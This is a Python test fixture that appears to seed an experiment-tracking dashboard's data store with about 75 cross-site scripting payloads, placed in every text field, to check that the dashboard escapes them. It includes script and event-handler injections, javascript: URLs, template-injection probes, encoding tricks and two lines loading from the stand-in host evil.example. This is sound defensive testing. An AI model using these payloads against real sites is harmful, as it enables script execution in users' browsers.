"""Texts that would be scripts, were they ever taken for anything but texts."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from typing import Any

from blake3 import blake3

from daskperiment.backends import Append, Backend, Insert, Put
from daskperiment.history import paths
from tests.dashboard.stores import NAME, Foreign, fill

GOING = "going"
"""The experiment of such a store in which all is about to happen."""
CANARY = "window.__pwned=1"
_RUN = f"javascript:{CANARY}"
_IMAGE = f"<img src=x onerror={CANARY}>"

PAYLOADS = (
    # Elements that run scripts.
    f"<script>{CANARY}</script>",
    f"<SCRIPT>{CANARY}</SCRIPT >",
    f"<script\n>{CANARY}</script\n>",
    f"<script src=\"data:text/javascript,{CANARY}\"></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{CANARY}</script>",
    f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    f"<svg><script>{CANARY}</script></svg>",
    f"<svg><script href=\"data:,{CANARY}\"/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>{_IMAGE}",
    # Attributes that do.
    _IMAGE,
    f"<img/src=x/onerror={CANARY}>",
    f"<IMG SRC=x ONERROR=\"{CANARY}\">",
    f"<img src=x onerror\n=\n{CANARY}>",
    f"<svg onload={CANARY}>",
    f"<svg/onload={CANARY}//",
    f"<body onload={CANARY}>",
    f"<details open ontoggle={CANARY}>x</details>",
    f"<video><source onerror={CANARY}></video>",
    f"<input autofocus onfocus={CANARY}>",
    f"<select autofocus onfocus={CANARY}>",
    f"<marquee onstart={CANARY}>x</marquee>",
    f"<iframe srcdoc=\"<script>parent.{CANARY}</script>\"></iframe>",
    f"<iframe src=\"{_RUN}\"></iframe>",
    f"<object data=\"{_RUN}\"></object>",
    f"<embed src=\"{_RUN}\">",
    f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    f"<style>@keyframes x{{}}</style><b style=\"animation:x 1s\" onanimationstart=\"{CANARY}\">",
    # Out of an attribute, an element, a script or a comment.
    f"\"><script>{CANARY}</script>",
    f"'><script>{CANARY}</script>",
    f"\" onmouseover=\"{CANARY}\" x=\"",
    f"' autofocus onfocus='{CANARY}' x='",
    f"` onerror={CANARY} `",
    f"</script><script>{CANARY}</script>",
    f"</title><script>{CANARY}</script>",
    f"</textarea><script>{CANARY}</script>",
    f"</style><script>{CANARY}</script>",
    f"</pre></td></table><script>{CANARY}</script>",
    f"--><script>{CANARY}</script><!--",
    f"]]><script>{CANARY}</script>",
    f"</noscript>{_IMAGE}",
    f"\\\";{CANARY};//",
    f"';{CANARY};'",
    f"${{{CANARY}}}",
    f"*/{CANARY}/*",
    # Addresses.
    _RUN,
    f"JaVaScRiPt:{CANARY}",
    f" \x01java\tscript:{CANARY}",
    f"data:text/html,<script>{CANARY}</script>",
    f"<a href=\"{_RUN}\" autofocus>x</a>",
    f"[x]({_RUN})",
    f"![x](x\"onerror=\"{CANARY})",
    "<base href=//evil.example/><link rel=stylesheet href=x>",
    f"<meta http-equiv=refresh content=\"0;url={_RUN}\">",
    f"<form action=\"{_RUN}\"><button autofocus>x</button></form>",
    # Templates, styles and entities.
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    f"<b style=\"width:expression({CANARY});background:url({_RUN})\">",
    f"&lt;script&gt;{CANARY}&lt;/script&gt;",
    f"&#60;script&#62;{CANARY}&#60;/script&#62;",
    f"%3Cscript%3E{CANARY}%3C/script%3E",
    f"\\u003cscript\\u003e{CANARY}\\u003c/script\\u003e",
    # Signs that parsers disagree about.
    f"<scr\0ipt>{CANARY}</scr\0ipt>\0{_IMAGE}",
    f"\ufeff\uff1cscript\uff1e{CANARY}\uff1c/script\uff1e",
    f"\u2028{CANARY}\u2029<script>\u2028{CANARY}</script>",
    f"\u202e\u2066<script>{CANARY}</script>\u2069",
    f"\ud83d<script>{CANARY}</script>",
    f"\x1b[31m<script>{CANARY}</script>\x1b]8;;{_RUN}\x07x",
    f"+ADw-script+AD4-{CANARY}+ADw-/script+AD4-",
    f"<!--[if gte IE 4]><script>{CANARY}</script><![endif]-->",
    "__proto__",
    "<img id=__pwned name=body><form id=location name=cookie>",
)  # fmt: skip


def infested(payloads: Sequence[str] = PAYLOADS) -> Foreign:
    """A store in which each text of each trial is one of the payloads."""
    sound, backend = Foreign(), Foreign()
    fill(sound)
    row = sound.get(paths.trials(NAME), 1)
    assert row is not None
    for name in (NAME, GOING):
        backend.apply(Insert(paths.EXPERIMENTS, {"created": 1.0}, name))
    for number, text in enumerate(payloads, 1):
        _infest(backend, row, number, text)
    return backend


def _infest(backend: Backend, sound: dict[str, Any], number: int, text: str) -> None:
    uid = f"{number:032x}"
    name = text.encode("utf-8", "replace").decode()  # else it would be left out
    kept = {"type": text, "preview": text, "json": json.dumps(text)}
    kinds = ("code", "environment", "session")
    row = {
        **sound, "uid": uid, "parameters": [[name, kept], ["a", kept]], "tags": [text, "x"],
        "note": text, "result": kept, "description": text, "traceback": text, "ended_by": text,
        "owner": {**sound["owner"], "host": text, "user": text, "pid": text},
        "tainted": True, "reproduces": f"{1:032x}", "verdict": text,
        "taint_0": {"reason": text, "calls": [[text, 0]], "by": text, "time": 1.0},
        "search": uid, "place": 0, "failed_step": text,
        "parameters_digest": text, **{kind: f"{kind}{uid}" for kind in kinds},
    }  # fmt: skip
    raw = text.encode("utf-8", "surrogatepass")
    digest = blake3(raw).hexdigest()
    snapshots = zip(kinds, (_code(text, digest), _environment(text), _session(text)), strict=True)
    backend.apply(
        Put(raw),
        Insert(paths.trials(NAME), row, number),
        Insert(paths.searches(NAME), _search(text, name, uid), name),
        *(Insert(paths.SNAPSHOTS, found, f"{kind}{uid}") for kind, found in snapshots),
        Append(paths.steps(NAME, uid), list(_steps(text))),
        Append(paths.metrics(NAME, uid), [{text: [[0, 1], [1.0, 2.0], [1.0, 2.0]]}]),
        Append(paths.artifacts(NAME, uid), list(_artifacts(text, digest, len(raw)))),
        Append(paths.output(NAME, uid), [{"step": text, "call": 0, "pieces": _pieces(text)}]),
        Append(paths.usage(NAME, uid), [_usage(text)]),
    )
    owner = {**sound["owner"], "host": text, "user": text}
    counts = dict.fromkeys(("done", "failed", "skipped", "running"), 1)
    batch = {
        "started": 1.0, "owner": owner, "total": 9, **counts, "state": "RUNNING", "executor": text,
        "script": text, "best": {"trial": text, "value": text},
    }  # fmt: skip
    states = {1: "CRASHED", 2: "RUNNING"}
    backend.apply(
        Insert(paths.running(GOING), owner, uid),
        Insert(paths.batches(GOING), batch, f"{text}{uid}"),
        Append(paths.usage(GOING, uid), [_usage(text)]),
        Append(paths.metrics(GOING, uid), [{text: [[0, 1], [1.0, 2.0], [1.0, 2.0]]}]),
        *(
            Insert(paths.trials(GOING), {**row, "owner": owner, "state": state}, 2 * number + at)
            for at, state in states.items()
        ),
    )


def _search(text: str, name: str, uid: str) -> dict[str, Any]:
    return {
        "uid": uid, "started": 1.0, "seed": 7, "n_trials": 9, "description": text, "main": 0,
        "sampler": {"name": text, text: text}, "metrics": [[name, "minimize"], [None, "maximize"]],
        "space": {name: {"type": "categorical", "choices": [text, "x"]}, "a": [text, 1]},
    }  # fmt: skip


def _usage(text: str) -> dict[str, Any]:
    values = {"cpu": [1.0, 2.0], "memory": [1, 2], "gpu0": [1, 2], text: [1.0, 2.0]}
    where = {"host": text, "pid": 1, "seconds": [1.0, 2.0]}
    return {**where, "values": values, "calls": [[text, 0]]}


def _steps(text: str) -> Iterator[dict[str, Any]]:
    for call in range(2):
        origin = "parameter 0 a" if call == 0 else f"step 0 {text}"
        yield {
            "step": text, "call": call, "fingerprint": text, "output": text, "seed": 1,
            "inputs": [[text, text, text, False, origin, f"parameter 0 {text}"]],
            "drew": True, "entropy": False, "threads": {text: text}, "environment": text,
            "host": text, "pid": 1, "started": 1.0, "seconds": 1.0, "outcome": "ran",
            "reused_from": text, "unhashed": text, "kept": {"preview": text, "type": text},
        }  # fmt: skip


def _artifacts(text: str, digest: str, size: int) -> Iterator[dict[str, Any]]:
    for suffix in ("", ".html", ".svg", ".png", ".txt", ".js"):
        yield {"name": f"{text}{suffix}", "digest": digest, "size": size, "file": True, "time": 1.0}


def _pieces(text: str) -> list[Any]:
    out = [[1.0, stream, f"{text}\n"] for stream in ("stdout", "stderr", text)]
    return [*out, [2.0, "logging", text, text, text]]


def _code(text: str, digest: str) -> dict[str, Any]:
    step = {
        "name": text, "source": digest, "function": text, "digest": text, "files": [text],
        "functions": {text: text}, "unhashed": [text], "bytecode": [text],
        "borders": {text: text},
    }  # fmt: skip
    return {"steps": [step], "sources": {text: digest}, "borders": {text: text}, "with_text": True}


def _environment(text: str) -> dict[str, Any]:
    return {
        "platform": {"platform": text, text: text}, "cpu": {"model": text}, "gpu": [text],
        "python": {"version": text, "implementation": text}, "packages": {text: text, "dask": text},
    }  # fmt: skip


def _session(text: str) -> dict[str, Any]:
    git = {"repository": text, "branch": text, "commit": text, "dirty": True, "remote": text}
    script = {"path": text, "arguments": [text]}
    return {"git": git, "script": script, "working_directory": text, "shell": text}
